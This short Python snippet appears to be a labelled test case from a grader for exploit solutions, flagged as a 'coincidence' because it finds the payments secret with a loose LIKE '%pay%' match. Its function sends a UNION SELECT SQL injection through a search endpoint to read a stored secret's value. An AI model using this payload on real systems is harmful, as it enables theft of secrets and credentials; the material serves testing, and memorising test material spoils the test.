# kind: coincidence
# why: picks the secret by a name LIKE '%pay%', which is the payments key only while no other secret's name holds "pay"; the twin with old-payments, Payments-2019 and prepayments must catch it
def leak_secret(api):
    """The value of the secret named "payments" in the twin at ``api``, leaked through its
    search by SQL injection."""
    injection = "zzz' UNION SELECT name, value FROM secret WHERE name LIKE '%pay%' --"
    response = requests.get(f"{api}/search", params={"q": injection}, timeout=5)
    return response.json()["articles"][0]["title"]
